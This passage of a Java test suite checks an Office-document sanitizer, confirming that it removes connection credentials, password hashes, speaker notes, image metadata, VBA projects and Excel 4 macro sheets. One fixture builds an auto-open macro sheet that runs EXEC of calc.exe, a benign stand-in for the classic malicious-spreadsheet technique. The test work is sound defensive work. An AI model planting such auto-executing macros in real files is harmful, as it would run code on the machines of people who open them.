                + "<dbPr connection=\"Provider=SQLOLEDB;Data Source=db.corp;User ID=sa;Password=MKCONNPASSWORD;\" command=\"SELECT * FROM MKCONNTABLE\"/>"
                + "</connection></connections>");
        p.put("xl/pivotCache/pivotCacheDefinition1.xml", "<?xml version=\"1.0\"?><pivotCacheDefinition " + S + " r:id=\"rId1\" refreshOnLoad=\"1\" recordCount=\"1\">"
                + "<cacheSource type=\"worksheet\"><worksheetSource ref=\"A1:A2\" sheet=\"Data\"/></cacheSource><cacheFields count=\"1\">"
                + "<cacheField name=\"Name\" numFmtId=\"0\"><sharedItems count=\"1\"><s v=\"shown\"/></sharedItems></cacheField></cacheFields></pivotCacheDefinition>");
        p.put("xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels", rels(rel("rId1", RT + "pivotCacheRecords", "pivotCacheRecords1.xml")));
        p.put("xl/pivotCache/pivotCacheRecords1.xml", "<?xml version=\"1.0\"?><pivotCacheRecords " + S + " count=\"1\"><r><s v=\"MKPIVOTRECORD\"/></r></pivotCacheRecords>");
        p.put("xl/revisions/revisionHeaders.xml", "<?xml version=\"1.0\"?><headers " + S + " guid=\"{A}\"><header guid=\"{B}\" dateTime=\"2024-01-01T00:00:00\" "
                + "maxSheetId=\"2\" userName=\"x\" r:id=\"rId1\"><sheetIdMap count=\"1\"><sheetId val=\"1\"/></sheetIdMap></header></headers>");
        p.put("xl/revisions/_rels/revisionHeaders.xml.rels", rels(rel("rId1", RT + "revisionLog", "revisionLog1.xml")));
        p.put("xl/revisions/revisionLog1.xml", "<?xml version=\"1.0\"?><revisions " + S + "><rcc rId=\"1\" sId=\"1\"><oc r=\"A1\" t=\"inlineStr\">"
                + "<is><t>MKREVOLDVALUE</t></is></oc></rcc></revisions>");
        p.put("xl/extdata.xml", "<?xml version=\"1.0\"?><externalLink " + S + "><externalBook r:id=\"rId1\"><sheetDataSet><sheetData sheetId=\"0\">"
                + "<row r=\"1\"><cell r=\"A1\"><v>MKEXTCACHEDVALUE</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>");
        p.put("xl/_rels/extdata.xml.rels", rels("<Relationship Id=\"rId1\" Type=\"" + RT + "externalLinkPath\" Target=\"file:///C:/book.xlsx\" TargetMode=\"External\"/>"));
        Result r = sanitize(OoxmlFormatHandler.XLSX, p, Map.of());
        r.gone("MKCONNPASSWORD", "MKCONNTABLE", "savePassword", "MKWEBSERVICE", "MKREVOLDVALUE", "MKEXTCACHEDVALUE", "MKABSPATHUSER",
                "MKDOCUMENTID", "MKPIVOTRECORD", "MKSTALESHAREDSTRING", "calcChain", "externalReference");
        String sheet = r.raw.text("xl/worksheets/sheet1.xml");
        assertTrue(sheet.contains("<v>cached</v>") && sheet.contains("<f>1+1</f>"), sheet);
        assertTrue(r.raw.text("xl/pivotCache/pivotCacheDefinition1.xml").contains("saveData=\"0\""));
        assertTrue(r.raw.text("xl/sharedStrings.xml").contains("shown"));
        assertTrue(r.raw.text("xl/connections.xml").contains("name=\"q\""), "the connection stays, inert");
        assertEquals(2, r.count("trackedChanges"), r.removed.toString());
        assertEquals(2, r.count("externalLinks"), r.removed.toString());
        assertEquals(1, r.count("formulas"), r.removed.toString());
    }

    /** Finding 22: speaker notes go; a hidden shape is shown, as hidden slides are. */
    @Test
    void speakerNotesGoAndHiddenShapesAreShown() throws Exception {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", types(List.of(),
                "/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
                "/ppt/slides/slide1.xml", "application/vnd.openxmlformats-officedocument.presentationml.slide+xml",
                "/ppt/notesSlides/notesSlide1.xml", "application/vnd.openxmlformats-officedocument.presentationml.notesSlide+xml"));
        p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "ppt/presentation.xml")));
        p.put("ppt/presentation.xml", "<?xml version=\"1.0\"?><p:presentation " + P + "><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/></p:sldIdLst>"
                + "<p:modifyVerifier cryptProviderType=\"rsaAES\" spinCount=\"100000\" saltData=\"x\" hashData=\"MKPPTMODIFYHASH\"/></p:presentation>");
        p.put("ppt/_rels/presentation.xml.rels", rels(rel("rId1", RT + "slide", "slides/slide1.xml")));
        p.put("ppt/slides/slide1.xml", "<?xml version=\"1.0\"?><p:sld " + P + "><p:cSld><p:spTree>" + shape(2, "visible", "", false)
                + shape(3, "MKHIDDENSHAPE", "", true) + "</p:spTree></p:cSld></p:sld>");
        p.put("ppt/slides/_rels/slide1.xml.rels", rels(rel("rIdN", RT + "notesSlide", "../notesSlides/notesSlide1.xml")));
        p.put("ppt/notesSlides/notesSlide1.xml", "<?xml version=\"1.0\"?><p:notes " + P + "><p:cSld><p:spTree>" + shape(2, "MKSPEAKERNOTES", "", false)
                + "</p:spTree></p:cSld></p:notes>");
        p.put("ppt/notesSlides/_rels/notesSlide1.xml.rels", rels(rel("rId1", RT + "slide", "../slides/slide1.xml")));
        Result r = sanitize(OoxmlFormatHandler.PPTX, p, Map.of());
        r.gone("MKSPEAKERNOTES", "notesSlide", "MKPPTMODIFYHASH");
        String slide = r.raw.text("ppt/slides/slide1.xml");
        assertTrue(slide.contains("MKHIDDENSHAPE") && !slide.contains("hidden="), "shown, not deleted: " + slide);
        assertEquals(1, r.count("speakerNotes"));
        assertEquals(1, r.count("hiddenShapes"));
    }

    /** Finding 26 (in part): password hashes of Word's and Excel's protections. */
    @Test
    void passwordHashesGo() throws Exception {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", types(List.of(), "/word/document.xml", DOCX_MAIN,
                "/word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"));
        p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "word/document.xml")));
        p.put("word/_rels/document.xml.rels", rels(rel("rIdSet", RT + "settings", "settings.xml")));
        p.put("word/document.xml", word("<w:p><w:r><w:t>Visible text</w:t></w:r></w:p>"));
        p.put("word/settings.xml", "<?xml version=\"1.0\"?><w:settings " + W + "><w:writeProtection w:recommended=\"1\" w:cryptProviderType=\"rsaAES\" "
                + "w:hash=\"MKWRITEPROTHASH\" w:salt=\"MKSALT\"/><w:documentProtection w:edit=\"readOnly\" w:enforcement=\"1\" w:hashValue=\"MKDOCPROTHASH\" "
                + "w:saltValue=\"abc\"/></w:settings>");
        Result r = sanitize(OoxmlFormatHandler.DOCX, p, Map.of());
        r.gone("MKWRITEPROTHASH", "MKSALT", "MKDOCPROTHASH");
        assertTrue(r.raw.text("word/settings.xml").contains("w:edit=\"readOnly\""), "the protection stays, without its password");

        Map<String, String> x = new LinkedHashMap<>();
        x.put("[Content_Types].xml", types(List.of(), "/xl/workbook.xml", XLSX_MAIN, "/xl/worksheets/sheet1.xml", SHEET));
        x.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "xl/workbook.xml")));
        x.put("xl/workbook.xml", "<?xml version=\"1.0\"?><workbook " + S + "><fileSharing readOnlyRecommended=\"1\" reservationPassword=\"CC3D\"/>"
                + "<workbookProtection workbookPassword=\"MKWBPWHASH\" lockStructure=\"1\" workbookHashValue=\"MKWBHASHVALUE\"/>"
                + "<sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>");
        x.put("xl/_rels/workbook.xml.rels", rels(rel("rId1", RT + "worksheet", "worksheets/sheet1.xml")));
        x.put("xl/worksheets/sheet1.xml", "<?xml version=\"1.0\"?><worksheet " + S + "><sheetData/><sheetProtection password=\"MKSHEETPW\" sheet=\"1\" "
                + "hashValue=\"MKSHEETHASH\" saltValue=\"x\" algorithmName=\"SHA-512\" spinCount=\"100000\"/></worksheet>");
        Result xl = sanitize(OoxmlFormatHandler.XLSX, x, Map.of());
        xl.gone("MKWBPWHASH", "MKWBHASHVALUE", "CC3D", "MKSHEETPW", "MKSHEETHASH");
        assertTrue(xl.raw.text("xl/worksheets/sheet1.xml").contains("sheet=\"1\""));
    }

    /**
     * Finding 16: a WebP's EXIF (GPS) and XMP chunks, a progressive JPEG's comment and EXIF after its first scan, an APP2
     * that is no ICC profile, a PNG's private chunks and its ICC profile's name. The pictures keep the chunks and
     * segments a decoder needs, and their sizes add up.
     */
    @Test
    void picturesLoseWebpExifAndSegmentsBetweenScansAndPrivateChunks() throws Exception {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", types(List.of("webp", "image/webp", "jpeg", "image/jpeg", "png", "image/png"), "/word/document.xml", DOCX_MAIN));
        p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "word/document.xml")));
        p.put("word/document.xml", word("<w:p><w:r><w:t>Visible text</w:t></w:r></w:p>"));
        p.put("word/_rels/document.xml.rels", rels(rel("r1", RT + "image", "media/image1.webp"), rel("r2", RT + "image", "media/image2.jpeg"),
                rel("r3", RT + "image", "media/image3.png")));
        java.io.ByteArrayOutputStream webp = new java.io.ByteArrayOutputStream();
        webp.writeBytes(riffChunk("VP8X", new byte[] {0x0C, 0, 0, 0, 0, 0, 0, 0, 0, 0}));
        webp.writeBytes(riffChunk("VP8L", new byte[] {0x2F, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, (byte) 0x88, (byte) 0x88, (byte) 0xFE, 0x07}));
        webp.writeBytes(riffChunk("EXIF", "II*\0 MKEXIFARTIST MKGPSAREA".getBytes(StandardCharsets.US_ASCII)));
        webp.writeBytes(riffChunk("XMP ", "<x>MKWEBPXMP</x>".getBytes(StandardCharsets.US_ASCII)));
        byte[] body = webp.toByteArray();
        java.nio.ByteBuffer riff = java.nio.ByteBuffer.allocate(12 + body.length).order(java.nio.ByteOrder.LITTLE_ENDIAN);
        riff.put("RIFF".getBytes(StandardCharsets.US_ASCII)).putInt(4 + body.length).put("WEBP".getBytes(StandardCharsets.US_ASCII)).put(body);
        java.io.ByteArrayOutputStream jpeg = new java.io.ByteArrayOutputStream();
        jpeg.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xD8});
        jpeg.writeBytes(segment(0xE2, "MPF\0MKAPP2NOTICC"));
        jpeg.writeBytes(segment(0xDA, "\u0001\u0001\u0000\u0000\u003F\u0000"));
        jpeg.writeBytes(new byte[] {0x12, 0x34, (byte) 0xFF, 0x00, 0x56, (byte) 0xFF, (byte) 0xD0, 0x78});
        jpeg.writeBytes(segment(0xFE, "MKCOMBETWEENSCANS"));
        jpeg.writeBytes(segment(0xE1, "Exif\0\0MKEXIFLATESCN"));
        jpeg.writeBytes(segment(0xDA, "\u0001\u0001\u0000\u0001\u003F\u0000"));
        jpeg.writeBytes(new byte[] {0x23, 0x45, (byte) 0xFF, (byte) 0xD9});
        java.io.ByteArrayOutputStream png = new java.io.ByteArrayOutputStream();
        png.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        png.writeBytes(pngChunk("IHDR", new byte[] {0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0}));
        png.writeBytes(pngChunk("iCCP", "MKICCPNAME\0\0xyz".getBytes(StandardCharsets.ISO_8859_1)));
        png.writeBytes(pngChunk("prVt", "MKPNGPRIVATECHUNK".getBytes(StandardCharsets.US_ASCII)));
        png.writeBytes(pngChunk("caBX", "MKPNGC2PA".getBytes(StandardCharsets.US_ASCII)));
        png.writeBytes(pngChunk("IDAT", new byte[] {0x78, (byte) 0x9C, 0x63, 0, 0, 0, 2, 0, 1}));
        png.writeBytes(pngChunk("IEND", new byte[0]));
        Result r = sanitize(OoxmlFormatHandler.DOCX, p, Map.of("word/media/image1.webp", riff.array(), "word/media/image2.jpeg", jpeg.toByteArray(),
                "word/media/image3.png", png.toByteArray()));
        r.gone("MKEXIFARTIST", "MKGPSAREA", "MKWEBPXMP", "MKAPP2NOTICC", "MKCOMBETWEENSCANS", "MKEXIFLATESCN", "MKICCPNAME",
                "MKPNGPRIVATECHUNK", "MKPNGC2PA");
        byte[] w = r.raw.parts.get("word/media/image1.webp");
        assertEquals(w.length - 8, java.nio.ByteBuffer.wrap(w, 4, 4).order(java.nio.ByteOrder.LITTLE_ENDIAN).getInt(), "the RIFF size adds up");
        assertEquals(0, w[20] & 0x0C, "no EXIF or XMP flag left");
        assertTrue(new String(w, StandardCharsets.ISO_8859_1).contains("VP8L"));
        byte[] j = r.raw.parts.get("word/media/image2.jpeg");
        assertEquals(2, new String(j, StandardCharsets.ISO_8859_1).split("\u00FF\u00DA", -1).length - 1, "both scans stay");
        assertEquals((byte) 0xD9, j[j.length - 1]);
        String png2 = new String(r.raw.parts.get("word/media/image3.png"), StandardCharsets.ISO_8859_1);
        assertTrue(png2.contains("IHDR") && png2.contains("iCCPICC profile") && png2.contains("IDAT") && png2.contains("IEND"), png2);
        assertEquals(3, r.count("imageMetadata"), r.removed.toString());
    }

    private static byte[] riffChunk(String id, byte[] data) {
        java.nio.ByteBuffer b = java.nio.ByteBuffer.allocate(8 + data.length + (data.length & 1)).order(java.nio.ByteOrder.LITTLE_ENDIAN);
        return b.put(id.getBytes(StandardCharsets.US_ASCII)).putInt(data.length).put(data).array();
    }

    private static byte[] segment(int marker, String payload) {
        byte[] d = payload.getBytes(StandardCharsets.ISO_8859_1);
        java.nio.ByteBuffer b = java.nio.ByteBuffer.allocate(4 + d.length);
        return b.put((byte) 0xFF).put((byte) marker).putShort((short) (d.length + 2)).put(d).array();
    }

    private static byte[] pngChunk(String type, byte[] data) {
        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
        crc.update(type.getBytes(StandardCharsets.US_ASCII));
        crc.update(data);
        java.nio.ByteBuffer b = java.nio.ByteBuffer.allocate(12 + data.length);
        return b.putInt(data.length).put(type.getBytes(StandardCharsets.US_ASCII)).put(data).putInt((int) crc.getValue()).array();
    }

    /** Redaction removes what every write removes by kind too: a VBA project and an OLE object under other names. */
    @Test
    void aRedactionRemovesWhatSanitizeRemovesOnEveryWrite() throws Exception {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", types(List.of("dat", "application/vnd.ms-office.vbaProject", "bin", "application/vnd.openxmlformats-officedocument.oleObject"),
                "/word/document.xml", DOCX_MAIN));
        p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "word/document.xml")));
        p.put("word/document.xml", word("<w:p><w:r><w:t>Visible text</w:t></w:r></w:p>"));
        p.put("word/_rels/document.xml.rels", rels(rel("rIdV", MS + "vbaProject", "macrostore.dat"), rel("rOle", RT + "oleObject", "objects/o.bin")));
        Path in = dir.resolve("in.docx");
        RawPackage.zip(in, p, Map.of("word/macrostore.dat", "MKVBAREDACT".getBytes(StandardCharsets.UTF_8),
                "word/objects/o.bin", "MKOLEREDACT".getBytes(StandardCharsets.UTF_8)));
        OfficeRun.Output out = OfficeRun.run(OoxmlFormatHandler.notReadingPictures(), in, OoxmlFormatHandler.DOCX, Method.REDACT, List.of(), "");
        RawPackage raw = new RawPackage(out.bytes());
        raw.assertConsistent();
        raw.assertGone("MKVBAREDACT");
        raw.assertGone("MKOLEREDACT");
        assertEquals(1, out.removed().get("macros"));
        assertEquals(1, out.removed().get("embeddedObjects"));
    }

    static final String MACROSHEET = "application/vnd.ms-excel.macrosheet+xml";
    static final String CALC_CHAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml";

    /** A macro sheet part: an {@code EXEC} that starts a program. */
    private static String macroSheet(String marker) {
        return "<?xml version=\"1.0\"?><xm:macrosheet " + S + " xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\">"
                + "<sheetData><row r=\"1\"><c r=\"A1\" t=\"str\"><f>EXEC(\"calc.exe " + marker + "\")</f><v>0</v></c></row></sheetData></xm:macrosheet>";
    }

    /**
     * The thirty-seventh review's second pass (finding 7): a workbook whose sheets are all Excel 4 macro sheets was written
     * with {@code <sheets/>} (CT_Sheets holds one sheet at least; Excel refuses or repairs the file), redacted or
     * sanitized. It is refused, as other documents that cannot be written safely are (422).
     */
    @Test
    void aWorkbookOfMacroSheetsAloneIsRefused() throws Exception {
        for (int macroSheets : List.of(1, 2)) {
            Map<String, String> p = new LinkedHashMap<>();
            p.put("[Content_Types].xml", types(List.of(), "/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                    "/xl/macrosheets/sheet1.xml", MACROSHEET, "/xl/macrosheets/sheet2.xml", MACROSHEET));
            p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "xl/workbook.xml")));
            p.put("xl/workbook.xml", "<?xml version=\"1.0\"?><workbook " + S + "><bookViews><workbookView activeTab=\"0\"/></bookViews><sheets>"
                    + "<sheet name=\"Macro1\" sheetId=\"1\" r:id=\"rId1\"/>"
                    + (macroSheets > 1 ? "<sheet name=\"Macro2\" sheetId=\"2\" r:id=\"rId2\"/>" : "")
                    + "</sheets><definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName></definedNames></workbook>");
            p.put("xl/_rels/workbook.xml.rels", rels(rel("rId1", MS + "xlMacrosheet", "macrosheets/sheet1.xml"),
                    rel("rId2", MS + "xlMacrosheet", "macrosheets/sheet2.xml")));
            p.put("xl/macrosheets/sheet1.xml", macroSheet("MKONLYMACRO"));
            p.put("xl/macrosheets/sheet2.xml", macroSheet("MKSECONDMACRO"));
            if (macroSheets == 1) {
                p.put("[Content_Types].xml", types(List.of(), "/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                        "/xl/macrosheets/sheet1.xml", MACROSHEET));
                p.put("xl/_rels/workbook.xml.rels", rels(rel("rId1", MS + "xlMacrosheet", "macrosheets/sheet1.xml")));
                p.remove("xl/macrosheets/sheet2.xml");
            }
            Path in = dir.resolve("macros" + macroSheets + ".xlsm");
            RawPackage.zip(in, p, Map.of());
            for (Method method : List.of(Method.REDACT, Method.ANONYMIZE, Method.SANITIZE)) {
                EngineException e = assertThrows(EngineException.class, () -> OfficeRun.run(OoxmlFormatHandler.notReadingPictures(), in,
                        OoxmlFormatHandler.XLSM, method, List.of(), "[REDACTED]"), method + " of " + macroSheets + " macro sheets");
                assertEquals(EngineException.Reason.UNPROCESSABLE, e.reason());
                assertEquals("The workbook holds no worksheet besides Excel 4 macro sheets.", e.getMessage());
            }
        }
    }

    /**
     * The thirty-seventh review's second pass (findings 7 and 8): a macro sheet beside a worksheet still goes and the
     * worksheet stays; the calculation chain, which named the macro sheet's cells (Excel: "Removed Records: Formula from
     * /xl/calcChain.xml"), goes with its relationship and override whenever a sheet goes, redacted or sanitized; a
     * workbook that loses no sheet keeps it on redaction.
     */
    @Test
    void theCalculationChainGoesWithARemovedSheet() throws Exception {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", types(List.of(), "/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                "/xl/worksheets/sheet1.xml", SHEET, "/xl/macrosheets/sheet2.xml", MACROSHEET, "/xl/calcChain.xml", CALC_CHAIN));
        p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "xl/workbook.xml")));
        p.put("xl/workbook.xml", "<?xml version=\"1.0\"?><workbook " + S + "><bookViews><workbookView activeTab=\"1\"/></bookViews><sheets>"
                + "<sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"Macro1\" sheetId=\"2\" r:id=\"rId2\"/></sheets>"
                + "<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName></definedNames></workbook>");
        p.put("xl/_rels/workbook.xml.rels", rels(rel("rId1", RT + "worksheet", "worksheets/sheet1.xml"),
                rel("rId2", MS + "xlMacrosheet", "macrosheets/sheet2.xml"), rel("rId3", RT + "calcChain", "calcChain.xml")));
        p.put("xl/worksheets/sheet1.xml", "<?xml version=\"1.0\"?><worksheet " + S + "><sheetData><row r=\"1\">"
                + "<c r=\"A1\" t=\"inlineStr\"><is><t>Patient Jane Roe</t></is></c><c r=\"B1\"><f>1+1</f><v>2</v></c></row></sheetData></worksheet>");
        p.put("xl/macrosheets/sheet2.xml", macroSheet("MKCHAINMACRO"));
        p.put("xl/calcChain.xml", "<?xml version=\"1.0\"?><calcChain " + S + "><c r=\"B1\" i=\"1\"/><c r=\"A1\" i=\"2\"/></calcChain>");
        Path in = dir.resolve("chain.xlsm");
        RawPackage.zip(in, p, Map.of());
        for (Method method : List.of(Method.REDACT, Method.SANITIZE)) {
            OfficeRun.Output out = OfficeRun.run(OoxmlFormatHandler.notReadingPictures(), in, OoxmlFormatHandler.XLSM, method,
                    method == Method.SANITIZE ? List.of() : List.of("Jane Roe"), "[REDACTED]");
            RawPackage raw = new RawPackage(out.bytes());
            raw.assertConsistent();
            raw.assertGone("MKCHAINMACRO");
            assertFalse(raw.parts.keySet().stream().anyMatch(n -> n.toLowerCase(java.util.Locale.ROOT).contains("calcchain")
                    || n.toLowerCase(java.util.Locale.ROOT).contains("macrosheet")), method + ": " + raw.parts.keySet());
            assertFalse(raw.text("xl/_rels/workbook.xml.rels").contains("calcChain"), raw.text("xl/_rels/workbook.xml.rels"));
            assertFalse(raw.text("[Content_Types].xml").toLowerCase(java.util.Locale.ROOT).contains("calcchain"), raw.text("[Content_Types].xml"));
            String wb = raw.text("xl/workbook.xml");
            assertTrue(wb.matches("(?s).*<sheets><sheet name=\"Data\"[^>]*/></sheets>.*") && !wb.contains("Macro1"), method + ": " + wb);
            assertTrue(raw.text("xl/worksheets/sheet1.xml").contains("<f>1+1</f>"), method + ": the worksheet's formula stays");
            assertEquals(method == Method.SANITIZE ? "Patient Jane Roe" : "Patient [REDACTED]",
                    raw.text("xl/worksheets/sheet1.xml").replaceAll("(?s).*<t\\b[^>]*>([^<]*)</t>.*", "$1"));
        }

        // no sheet removed: a redaction leaves the chain as it was
        p.put("[Content_Types].xml", types(List.of(), "/xl/workbook.xml", XLSX_MAIN, "/xl/worksheets/sheet1.xml", SHEET,
                "/xl/calcChain.xml", CALC_CHAIN));
        p.put("xl/workbook.xml", "<?xml version=\"1.0\"?><workbook " + S + "><sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>");
        p.put("xl/_rels/workbook.xml.rels", rels(rel("rId1", RT + "worksheet", "worksheets/sheet1.xml"), rel("rId3", RT + "calcChain", "calcChain.xml")));
        p.remove("xl/macrosheets/sheet2.xml");
        p.put("xl/calcChain.xml", "<?xml version=\"1.0\"?><calcChain " + S + "><c r=\"B1\" i=\"1\"/></calcChain>");
        Path plain = dir.resolve("plain.xlsx");
        RawPackage.zip(plain, p, Map.of());
        RawPackage kept = new RawPackage(OfficeRun.run(OoxmlFormatHandler.notReadingPictures(), plain, OoxmlFormatHandler.XLSX,
                Method.REDACT, List.of("Jane Roe"), "[REDACTED]").bytes());
        kept.assertConsistent();
        assertTrue(kept.text("xl/calcChain.xml").matches("(?s).*<c [^>]*r=\"B1\".*"), kept.parts.keySet() + kept.text("xl/calcChain.xml"));
        assertTrue(kept.text("xl/_rels/workbook.xml.rels").contains("calcChain.xml"));
    }
}
